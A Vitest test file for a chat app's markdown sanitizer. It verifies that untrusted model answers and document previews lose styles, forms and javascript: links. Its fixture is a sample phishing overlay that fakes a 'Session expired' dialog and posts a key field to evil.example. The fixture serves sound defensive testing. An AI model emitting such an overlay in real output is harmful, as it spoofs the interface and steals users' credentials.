// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../features/chat/markdown';
import { MarkdownView } from '../features/preview/MarkdownView';
import { externalLinkTarget, sanitizeUntrusted } from './untrusted-html';

afterEach(cleanup);

/** A model answer (or an artifact's README) that draws a fake Kiln dialog over the whole window. */
const OVERLAY = [
  'Here is your report.',
  '',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff" class="dialog-backdrop modal" id="composer">',
  '<h2>Session expired</h2><a href="https://evil.example/login">Sign in again</a>',
  '<style>body{display:none}</style><form action="https://evil.example"><input name="key"></form></div>',
].join('\n');

describe('untrusted markdown loses styling and positioning', () => {
  it('chat answers: no style attribute or element, no ids, no app classes, no forms; code blocks keep theirs', () => {
    const html = renderMarkdown(`${OVERLAY}\n\n\`\`\`python\nprint(1)\n\`\`\``);
    expect(html).not.toMatch(/style|position|dialog-backdrop|modal|id="composer"|<form|<input/);
    expect(html).toContain('Session expired');
    expect(html).toContain('class="code-block"');
    expect(html).toContain('class="code-copy"');
    expect(html).toMatch(/class="hljs[^"]*"/);
  });

  it('document previews: the same overlay renders as plain content', () => {
    const { container } = render(<MarkdownView text={OVERLAY} />);
    expect(container.querySelector('[style]')).toBeNull();
    expect(container.querySelector('#composer, .modal, form, style')).toBeNull();
    expect(container.textContent).toContain('Session expired');
  });

  it('a link in a previewed document never navigates the window', () => {
    const { container } = render(<MarkdownView text={'[docs](https://example.com/docs) and [local](javascript:alert(1))'} />);
    const links = container.querySelectorAll('a');
    const first = new MouseEvent('click', { bubbles: true, cancelable: true });
    links[0]!.dispatchEvent(first);
    expect(first.defaultPrevented).toBe(true);
    expect(externalLinkTarget(links[0]!)).toEqual({ handled: true, url: 'https://example.com/docs' });
    // A javascript: link is dropped by the sanitizer or, if kept as text, is not opened.
    if (links[1]) expect(externalLinkTarget(links[1]).url).toBeNull();
    expect(externalLinkTarget(container)).toEqual({ handled: false, url: null });
  });

  it('keeps harmless markup', () => {
    expect(sanitizeUntrusted('<p class="x hljs-string"><strong>ok</strong></p>')).toBe('<p class="hljs-string"><strong>ok</strong></p>');
  });
});
